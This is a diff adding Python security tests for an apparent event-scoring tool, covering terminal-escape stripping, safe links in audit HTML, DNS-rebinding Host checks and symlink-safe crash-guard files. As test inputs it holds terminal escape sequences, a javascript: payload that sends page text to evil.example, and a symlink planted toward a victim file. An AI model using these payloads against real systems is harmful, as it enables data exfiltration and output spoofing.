@@ -1,0 +1,134 @@
+"""What event producers, HTTP clients and co-tenants of a shared directory must not be able to do."""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import json
+import os
+import re
+from pathlib import Path
+
+from tests.unit.streams import test_audit_subjects as audit_case
+from tests.unit.streams.test_render import SCORE
+from tests.unit.streams.test_web import _View, _guard
+
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mno risk\x1b[0m\r\n  1   0.001  low  forged row"
+SEED = Path(__file__).resolve().parents[3] / "examples" / "binance-wlfi.jsonl"
+
+
+def _no_control_characters(text: str) -> None:
+    structural = text.replace("\n", "")
+    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", structural), repr(text)
+
+
+# 1. terminal escapes from event fields ------------------------------------------------------------------------
+
+def test_tail_and_score_never_print_control_characters_from_events(tmp_path, capsys):
+    from schemas import DeadLetter
+    from streams.commands import score as score_command
+    from streams.render import render_dead_letter, render_ranking, render_score
+
+    evil = SCORE.model_copy(update={"counterparty_name": "Acme" + ESCAPES})
+    for text in (render_score(evil), render_ranking([evil])):
+        _no_control_characters(text)
+        assert "forged row" in text and len(text.splitlines()) == len(
+            (render_score(SCORE) if text.startswith("HIGH") else render_ranking([SCORE])).splitlines())
+    letter = DeadLetter.model_validate({
+        "reason": "invalid_event", "message": "extra" + ESCAPES + ": Extra inputs are not permitted",
+        "topic": "coi-relationship-events", "partition": 0, "offset": 1, "original_value": None,
+        "original_value_length": None})
+    _no_control_characters(render_dead_letter(letter).replace("\n  at ", " at "))
+
+    # `coi-risk score` on a file whose names and rejected lines carry escapes
+    lines = [json.loads(line) for line in SEED.read_text().splitlines()]
+    for event in lines:
+        for side in ("source", "target"):
+            if event[side]["id"] == "sun":
+                event[side]["name"] = "Justin Sun" + ESCAPES
+    bad = {**lines[0], "extra" + ESCAPES: 1}
+    events = tmp_path / "events.jsonl"
+    events.write_text("\n".join(json.dumps(e) for e in [*lines, bad]) + "\n")
+    args = argparse.Namespace(file=str(events), as_of=None, json=False, config=None, min_band="low")
+    assert score_command.run(args) == 0
+    out, err = capsys.readouterr()
+    assert "forged row" in out
+    _no_control_characters(out)
+    _no_control_characters(err)
+
+
+# 2. audit HTML: links only to web addresses ---------------------------------------------------------------------
+
+def test_the_audit_html_links_no_script_urls(monkeypatch):
+    from streams.audit import build_report, render_html
+
+    monkeypatch.setitem(audit_case.PROVENANCE, "source_url", "javascript:fetch('//evil.example/?'+document.body.innerText)")
+    _, items = audit_case.processed(audit_case.planted_case())
+    page = render_html(build_report(items, pair=("minister", "broadcaster")))
+    assert "javascript:" in page  # still shown, as text
+    hrefs = re.findall(r'href="([^"]*)"', page)
+    assert not any(not href.startswith(("http://", "https://")) for href in hrefs), hrefs
+
+
+def test_the_audit_html_still_links_web_sources():
+    from streams.audit import build_report, render_html
+
+    _, items = audit_case.processed(audit_case.planted_case())
+    page = render_html(build_report(items, pair=("minister", "broadcaster")))
+    assert re.search(r'<a href="https://example.org/a"[^>]*>https://example.org/a</a>', page)
+
+
+# 3. DNS rebinding: without a token, data only for a loopback Host ------------------------------------------------
+
+def _request(host: str | None):
+    from types import SimpleNamespace
+
+    return SimpleNamespace(headers={"Host": host} if host is not None else {})
+
+
+def test_data_views_without_a_token_refuse_a_foreign_host_header():
+    guard = _guard()  # loopback bind, no token: the default
+    # a page from attacker.example whose name now resolves to 127.0.0.1 (DNS rebinding) in the analyst's browser
+    status, _, _ = asyncio.run(guard.render(_View, _request("attacker.example:6066"), lambda: b'{"scores": []}'))
+    assert status == 403
+
+
+def test_data_views_without_a_token_still_answer_local_clients():
+    guard = _guard()
+    for host in ("127.0.0.1:6066", "localhost:6066", "localhost", "[::1]:6066", "127.0.0.1"):
+        assert asyncio.run(guard.render(_View, _request(host), lambda: b"{}"))[0] == 200, host
+
+
+def test_a_token_still_works_whatever_the_host_header():
+    from types import SimpleNamespace
+
+    guard = _guard(web_host="0.0.0.0", web_token="let-me-in")
+    request = SimpleNamespace(headers={"Host": "worker.internal:6066", "Authorization": "Bearer let-me-in"})
+    assert asyncio.run(guard.render(_View, request, lambda: b"{}"))[0] == 200
+
+
+# 4. crash guard: files planted in the data dir ---------------------------------------------------------------
+
+def test_the_crash_guard_follows_no_link_planted_in_the_data_dir(tmp_path):
+    from streams.crash_guard import LEDGER_FILE, MARKER_FILE, CrashGuard
+
+    data_dir = tmp_path / "data"  # e.g. /tmp/coi-worker, created beforehand by another user
+    data_dir.mkdir()
+    victim = tmp_path / "victim"  # e.g. the worker user's ~/.bashrc
+    victim.write_text("precious\n")
+    (data_dir / MARKER_FILE).write_text("events:0:1")  # "the previous run died at": makes the guard write its ledger
+    (data_dir / Path(LEDGER_FILE).with_suffix(".tmp").name).symlink_to(victim)
+    try:
+        CrashGuard(data_dir, max_attempts=3).close()
+    except OSError:
+        pass  # refusing is fine too
+    assert victim.read_text() == "precious\n"
+
+    (data_dir / MARKER_FILE).unlink()
+    (data_dir / MARKER_FILE).symlink_to(victim)
+    try:
+        CrashGuard(data_dir, max_attempts=3).close()
+    except OSError:
+        pass
+    assert victim.read_text() == "precious\n"
+    os.stat(victim)
